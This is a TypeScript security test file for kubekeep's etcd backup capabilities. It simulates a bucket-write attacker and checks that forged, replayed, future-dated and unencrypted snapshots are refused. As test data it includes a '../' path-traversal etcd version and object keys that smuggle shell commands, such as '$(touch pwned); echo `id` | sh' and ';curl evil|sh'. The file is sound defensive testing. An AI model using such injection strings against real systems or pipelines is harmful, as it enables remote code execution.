// The snapshot bucket as an untrusted boundary (SECURITY.md): each attack of
// issue 17 performed from outside, with a plain S3 client writing into the
// sandbox's bucket (versitygw), then kubekeep's capabilities run on it.
// Whoever can write to the bucket must not be able to make kubekeep download
// from a path of their choosing, take a forged or replayed object for the
// newest snapshot, delete real snapshots, or put a key of their choosing into
// an output. Then Object Lock: uploads, retention and prune on a bucket with
// versioning and Object Lock enabled.
import assert from "node:assert/strict";
import { randomBytes } from "node:crypto";
import fs from "node:fs";
import net from "node:net";
import os from "node:os";
import path from "node:path";
import { after, test } from "node:test";
import {
  CreateBucketCommand,
  ListObjectsV2Command,
  GetObjectCommand,
  HeadObjectCommand,
  PutObjectCommand,
} from "@aws-sdk/client-s3";
import { fromRecord } from "../../src/config/inputs.ts";
import type { AnyCapability, Result } from "../../src/config/capability.ts";
import { ConsoleLogger } from "../../src/core/logger.ts";
import { etcdList } from "../../src/capabilities/etcd-list/capability.ts";
import { etcdPrune } from "../../src/capabilities/etcd-prune/capability.ts";
import { etcdSnapshot } from "../../src/capabilities/etcd-snapshot/capability.ts";
import { etcdVerify } from "../../src/capabilities/etcd-verify/capability.ts";
import { etcdDrill } from "../../src/capabilities/etcd-drill/capability.ts";
import { printableKey } from "../../src/storage/sidecar.ts";
import type { SnapshotMetadata } from "../../src/storage/keys.ts";
import { timestamp } from "../../src/storage/keys.ts";
import { toText } from "../../src/report/report.ts";
import { etcdInputs, s3Env, sandboxS3, storageInputs } from "../harness/etcd.ts";
import { useSandbox } from "../harness/sandbox.ts";

const fx = useSandbox();
const tmp = fs.mkdtempSync(path.join(os.tmpdir(), "kubekeep-etcd-trust-"));
after(() => fs.rmSync(tmp, { recursive: true, force: true }));
const key = randomBytes(32).toString("base64");
const lines: string[] = [];
const logger = new ConsoleLogger({ write: (l) => lines.push(l) });

function setup(): void {
  Object.assign(process.env, s3Env(fx.sandbox.info));
}

async function run(cap: AnyCapability, inputs: Record<string, string>): Promise<Result> {
  return cap.run(cap.parse(fromRecord(inputs)), { logger });
}

async function failure(p: Promise<unknown>): Promise<Error> {
  const r = await p.then(
    () => undefined,
    (e: unknown) => e,
  );
  assert.ok(r instanceof Error, `expected a failure, got ${String(r)}`);
  return r;
}

/** The attacker's client: plain S3 calls with the bucket's credentials. */
async function s3<T>(
  fn: (client: ReturnType<typeof sandboxS3>["client"], bucket: string) => Promise<T>,
): Promise<T> {
  const { client, s3: info } = sandboxS3(fx.sandbox.info);
  try {
    return await fn(client, info.bucket);
  } finally {
    client.destroy();
  }
}

async function getObject(k: string, bucket?: string): Promise<Buffer> {
  return s3(async (client, b) => {
    const res = await client.send(new GetObjectCommand({ Bucket: bucket ?? b, Key: k }));
    return Buffer.from(
      await (res.Body as { transformToByteArray(): Promise<Uint8Array> }).transformToByteArray(),
    );
  });
}

async function putObject(
  k: string,
  body: Buffer | string,
  metadata?: Record<string, string>,
): Promise<string> {
  return s3(
    async (client, bucket) =>
      (
        await client.send(
          new PutObjectCommand({
            Bucket: bucket,
            Key: k,
            Body: body,
            ...(metadata ? { Metadata: metadata } : {}),
          }),
        )
      ).ETag ?? "",
  );
}

async function listKeys(prefix: string, bucket?: string): Promise<string[]> {
  return s3(async (client, b) => {
    const res = await client.send(new ListObjectsV2Command({ Bucket: bucket ?? b, Prefix: prefix }));
    return (res.Contents ?? []).map((o) => o.Key ?? "").sort();
  });
}

const sidecar = async (k: string) =>
  JSON.parse((await getObject(`${k}.json`)).toString()) as SnapshotMetadata;

async function snapshot(cluster: string, extra: Record<string, string> = {}): Promise<string> {
  return String(
    (await run(etcdSnapshot, etcdInputs(fx.sandbox.info, { "cluster-name": cluster, ...extra }))).outputs.key,
  );
}

const inputs = (cluster: string, extra: Record<string, string> = {}) =>
  storageInputs(fx.sandbox.info, { "cluster-name": cluster, ...extra });

/**
 * A forgery of `from` (object, metadata and sidecar) stored at `to`, with the
 * sidecar edited to describe its new name as the attacker would (key, run id,
 * time, ETag), and `edit` applied on top.
 */
async function forge(
  from: string,
  to: string,
  edit: (m: SnapshotMetadata) => SnapshotMetadata = (m) => m,
): Promise<void> {
  const meta = await sidecar(from);
  const runId = /-([0-9a-f]{10})\.db/.exec(to)?.[1] ?? "";
  const time = /-etcd-(\d{8}T\d{6}\.\d{3}Z)/.exec(to)?.[1] ?? "";
  const createdAt = `${time.slice(0, 4)}-${time.slice(4, 6)}-${time.slice(6, 8)}T${time.slice(9, 11)}:${time.slice(11, 13)}:${time.slice(13)}`;
  const metadata = await s3(
    async (client, bucket) =>
      (await client.send(new HeadObjectCommand({ Bucket: bucket, Key: from }))).Metadata ?? {},
  );
  const etag = await putObject(to, await getObject(from), {
    ...metadata,
    "run-id": runId,
    "created-at": createdAt,
  });
  await putObject(
    `${to}.json`,
    JSON.stringify(edit({ ...meta, key: to, runId, createdAt, etag, verified: true })),
  );
}

/** A key in `cluster`'s folder dated `at`, with a fresh run id. */
function keyAt(cluster: string, at: Date, ext = ".db.zst", folder = `etcd/${cluster}/`): string {
  return `${folder}${cluster}-etcd-${timestamp(at)}-${randomBytes(5).toString("hex")}${ext}`;
}

/** A TCP server that records every connection: a release mirror nothing should reach. */
async function tripwire(): Promise<{ url: string; hits: () => number; close: () => Promise<void> }> {
  let hits = 0;
  const server = net.createServer((s) => {
    hits++;
    s.destroy();
  });
  await new Promise<void>((r) => server.listen(0, "127.0.0.1", r));
  const port = (server.address() as net.AddressInfo).port;
  return {
    url: `https://127.0.0.1:${port}/releases`,
    hits: () => hits,
    close: () => new Promise<void>((r) => server.close(() => r())),
  };
}

// Attack: the drill took the etcd version from the sidecar unchecked and put
// it into its download URL and cache path (`3.6.16/../../../evil/v3.6.16`
// asked the mirror for /evil/v3.6.16/SHA256SUMS, then ran what came back).
// Now the sidecar is refused when it is read: list, verify and drill see a
// snapshot that is not usable, and nothing is downloaded.
test("a forged sidecar with a ../ etcd version is refused by list, verify and drill before any download", async (t) => {
  setup();
  const k = await snapshot("forged");
  const meta = await sidecar(k);
  await putObject(`${k}.json`, JSON.stringify({ ...meta, etcdVersion: "3.6.16/../../../evil/v3.6.16" }));

  const list = await run(etcdList, inputs("forged"));
  assert.equal(list.outputs.count, 0);
  assert.equal(list.outputs.key, "");
  const text = toText(list.report);
  assert.match(text, /its metadata field 'etcdVersion' is not an etcd version such as 3\.6\.16/);
  assert.ok(!text.includes("evil"), "the forged value is never repeated");

  const newest = await failure(run(etcdVerify, inputs("forged")));
  assert.match(
    newest.message,
    /^no usable snapshots of cluster 'forged' under s3:\/\/kubekeep-sandbox\/etcd\/forged\/ \(1 object\(s\) there are not used: see the warnings\)/,
  );
  const named = await failure(run(etcdVerify, inputs("forged", { key: k })));
  assert.equal(
    named.message,
    `snapshot ${k} is not usable: its metadata field 'etcdVersion' is not an etcd version such as 3.6.16`,
  );

  const mirror = await tripwire();
  t.after(mirror.close);
  const drill = await failure(
    run(etcdDrill, {
      ...inputs("forged", { key: k }),
      "kubeconfig-path": fx.sandbox.kubeconfig,
      "etcd-release-url": mirror.url,
      "kubernetes-release-url": mirror.url,
      "cache-dir": path.join(tmp, "drill-cache"),
    }),
  );
  assert.match(drill.message, /is not usable: its metadata field 'etcdVersion' is not an etcd version/);
  assert.equal(mirror.hits(), 0, "nothing was downloaded");
  assert.ok(!fs.existsSync(path.join(tmp, "evil")) && !fs.existsSync(path.join(tmp, "drill-cache", "etcd")));
});

// Attack: with encryption-key set, decryption happened only for `.enc`
// names, so a plain object beside the encrypted ones was taken as the newest
// and verified. Now a reader holding the key does not use it unless told to.
test("with a key, a plain object beside encrypted ones is not used unless allow-unauthenticated-snapshots", async () => {
  setup();
  const real = await snapshot("mixed", { "encryption-key": key });
  // The attacker's plain snapshot, newer (written here by kubekeep without a key: a real, valid database).
  const plain = await snapshot("mixed");
  const v = await run(etcdVerify, inputs("mixed", { "encryption-key": key }));
  assert.equal(v.outputs.key, real, "the newest authenticated snapshot, not the plain one");
  assert.ok(
    lines.some((l) => l.includes(`not used: ${plain}: not encrypted, though encryption-key is set`)),
    "the plain object is reported",
  );
  const named = await failure(run(etcdVerify, inputs("mixed", { key: plain, "encryption-key": key })));
  assert.equal(
    named.message,
    `snapshot ${plain} is not usable: not encrypted, though encryption-key is set: anyone who can write to the bucket can put a plain object there; set allow-unauthenticated-snapshots to read it anyway`,
  );
  const prune = await run(etcdPrune, inputs("mixed", { "encryption-key": key, "keep-last": "1" }));
  assert.equal(prune.outputs.deleted, 0);
  assert.ok((await listKeys("etcd/mixed/")).includes(plain), "never deleted either");
  // Told explicitly, the old behaviour: the plain object is used (with a warning).
  const allowed = await run(
    etcdVerify,
    inputs("mixed", { "encryption-key": key, "allow-unauthenticated-snapshots": "true" }),
  );
  assert.equal(allowed.outputs.key, plain);
});

// Attack: encrypted objects were not bound to their names and sidecars were
// not authenticated, so an old snapshot copied under a newer name, with its
// sidecar and object metadata edited to match, verified as the newest. Now
// the sidecar's MAC fails, and without a sidecar the object's encryption
// (bound to its name) fails.
test("an old encrypted snapshot copied under a newer name, sidecar and metadata edited, is refused", async () => {
  setup();
  const old = await snapshot("replay", { "encryption-key": key });
  const current = await snapshot("replay", { "encryption-key": key });
  const fake = keyAt("replay", new Date(Date.now() + 1000), ".db.zst.enc");
  await forge(old, fake);

  const v = await run(etcdVerify, inputs("replay", { "encryption-key": key }));
  assert.equal(v.outputs.key, current, "the real newest, not the replay");
  assert.ok(
    lines.some((l) => l.includes(`not used: ${fake}: its metadata fails authentication with this key`)),
  );
  const named = await failure(run(etcdVerify, inputs("replay", { key: fake, "encryption-key": key })));
  assert.equal(
    named.message,
    `snapshot ${fake} is not usable: its metadata fails authentication with this key: it was altered, or moved here from another snapshot`,
  );
  // An unauthenticated (format 1) sidecar instead: not chosen either; named, it is read and its encryption, bound to the old name, fails.
  await forge(old, fake, ({ mac: _mac, ...m }) => ({ ...m, formatVersion: 1 }));
  assert.equal((await run(etcdVerify, inputs("replay", { "encryption-key": key }))).outputs.key, current);
  const replay = await failure(run(etcdVerify, inputs("replay", { key: fake, "encryption-key": key })));
  assert.match(
    replay.message,
    /is corrupt or truncated: decryption failed at chunk 0.*: the object was truncated or altered, or copied here from another name/,
  );
  // The real snapshots still verify: nothing the attacker did changed them.
  assert.equal(
    (await run(etcdVerify, inputs("replay", { key: old, "encryption-key": key }))).outputs.verified,
    true,
  );
});

// Attack: retention counted snapshots dated in the future, so three copies
// dated 2099 were "the last 2" and `etcd prune --keep-last 2` deleted both
// real snapshots. Now they take no slot, are never deleted, and are reported.
test("snapshots dated 2099 are never counted by retention, chosen as newest or deleted", async () => {
  setup();
  const real = [await snapshot("future"), await snapshot("future")];
  const forged: string[] = [];
  for (let i = 1; i <= 3; i++) {
    const k = keyAt("future", new Date(`2099-01-01T00:00:0${i}.000Z`));
    await forge(real[0] as string, k);
    forged.push(k);
  }
  const prune = await run(etcdPrune, inputs("future", { "keep-last": "2" }));
  assert.equal(prune.outputs.deleted, 0);
  const left = await listKeys("etcd/future/");
  for (const k of [...real, ...forged]) assert.ok(left.includes(k), `${k} is still there`);
  const text = toText(prune.report);
  assert.match(
    text,
    /dated 2099-01-01T00:00:01\.000Z, in the future: its name was not given by a run of kubekeep/,
  );
  assert.equal((await run(etcdVerify, inputs("future"))).outputs.key, real[1]);
  assert.equal((await run(etcdList, inputs("future"))).outputs.key, real[1]);
});

// Attack: listing had no delimiter and the key pattern matched only the last
// segment, so a nested key was listed and became the `key` output, carrying
// whatever its folder holds (shell metacharacters into a `run:` line). Now
// only the cluster's folder itself is listed; nested keys are reported.
test("nested keys, with or without shell metacharacters, never reach list or verify outputs", async () => {
  setup();
  const real = await snapshot("nested");
  const soon = new Date(Date.now() + 1000);
  const nested = keyAt("nested", soon, ".db.zst", "etcd/nested/evil/");
  const shell = keyAt("nested", soon, ".db.zst", "etcd/nested/$(touch pwned); echo `id` | sh/");
  await forge(real, nested);
  await forge(real, shell);
  for (const cap of [etcdList, etcdVerify]) {
    const r = await run(cap, inputs("nested"));
    assert.equal(r.outputs.key, real, cap.name);
    const text = toText(r.report) + JSON.stringify(r.outputs);
    assert.ok(!text.includes("$(") && !text.includes("`"), `${cap.name}: ${text}`);
  }
  const list = toText((await run(etcdList, inputs("nested"))).report);
  for (const folder of ["etcd/nested/evil/", printableKey("etcd/nested/$(touch pwned); echo `id` | sh/")])
    assert.ok(list.includes(folder), `${folder} is reported:\n${list}`);
  assert.match(list, /a folder inside the cluster's folder: kubekeep never nests snapshots/);
  for (const k of [nested, shell]) {
    const err = await failure(run(etcdVerify, inputs("nested", { key: k })));
    assert.match(err.message, /^input 'key': .* is not a snapshot key of cluster 'nested'/);
  }
});

// A key directly in the folder whose name has shell metacharacters is not a
// snapshot name either: the name is matched whole, in safe characters.
test("a key with shell metacharacters in its name is reported, never listed", async () => {
  setup();
  const real = await snapshot("meta");
  const bad = `etcd/meta/meta-etcd-${timestamp(new Date(Date.now() + 1000))}-0123456789.db;curl evil|sh`;
  await putObject(bad, await getObject(real));
  const r = await run(etcdList, inputs("meta"));
  assert.equal(r.outputs.key, real);
  assert.equal(r.outputs.count, 1);
  const text = toText(r.report);
  assert.match(text, /\.db\?curl\?evil\?sh +its name has characters outside letters, digits and \. _ - \//);
  assert.ok(!text.includes(";curl"));
});

// Object Lock: a bucket created with Object Lock (and so versioning) takes
// kubekeep's uploads (multipart parts and sidecars carry a checksum), each
// object with the retention asked for; prune leaves a locked snapshot in
// place and says so, and deletes the unlocked one it should.
test("on an Object Lock bucket: uploads with retention, and prune skips and reports a locked snapshot", async (t) => {
  setup();
  const bucket = "kubekeep-locked";
  await s3((client) =>
    client.send(new CreateBucketCommand({ Bucket: bucket, ObjectLockEnabledForBucket: true })),
  );
  const locked = (extra: Record<string, string> = {}) =>
    etcdInputs(fx.sandbox.info, { "s3-bucket": bucket, "cluster-name": "locked", ...extra });
  const held = String(
    (await run(etcdSnapshot, locked({ "object-lock-mode": "GOVERNANCE", "object-lock-retain": "1d" })))
      .outputs.key,
  );
  const head = await s3((client) =>
    client.send(new HeadObjectCommand({ Bucket: bucket, Key: held, ChecksumMode: "ENABLED" })),
  );
  assert.equal(head.ObjectLockMode, "GOVERNANCE");
  t.diagnostic(`stored checksum of the locked object: CRC32 ${head.ChecksumCRC32 ?? "(not returned)"}`);
  const until = head.ObjectLockRetainUntilDate?.getTime() ?? 0;
  assert.ok(
    Math.abs(until - (Date.now() + 86_400_000)) < 600_000,
    `retained until ${head.ObjectLockRetainUntilDate?.toISOString()}`,
  );
  const sideHead = await s3((client) =>
    client.send(new HeadObjectCommand({ Bucket: bucket, Key: `${held}.json` })),
  );
  assert.equal(sideHead.ObjectLockMode, "GOVERNANCE", "the sidecar is retained too");
  const free = String((await run(etcdSnapshot, locked())).outputs.key);
  const newest = String((await run(etcdSnapshot, locked())).outputs.key);
  const prune = await run(
    etcdPrune,
    storageInputs(fx.sandbox.info, { "s3-bucket": bucket, "cluster-name": "locked", "keep-last": "1" }),
  );
  assert.equal(prune.outputs.deleted, 1);
  const text = toText(prune.report);
  assert.match(text, /locked: kept .*locked \(GOVERNANCE\) until \d{4}-.*: left in place/);
  const left = await listKeys("etcd/locked/", bucket);
  assert.ok(left.includes(held) && left.includes(newest) && !left.includes(free), left.join("\n"));
  // The stored copy of the locked snapshot still verifies.
  assert.equal(
    (
      await run(
        etcdVerify,
        storageInputs(fx.sandbox.info, { "s3-bucket": bucket, "cluster-name": "locked", key: held }),
      )
    ).outputs.verified,
    true,
  );
});
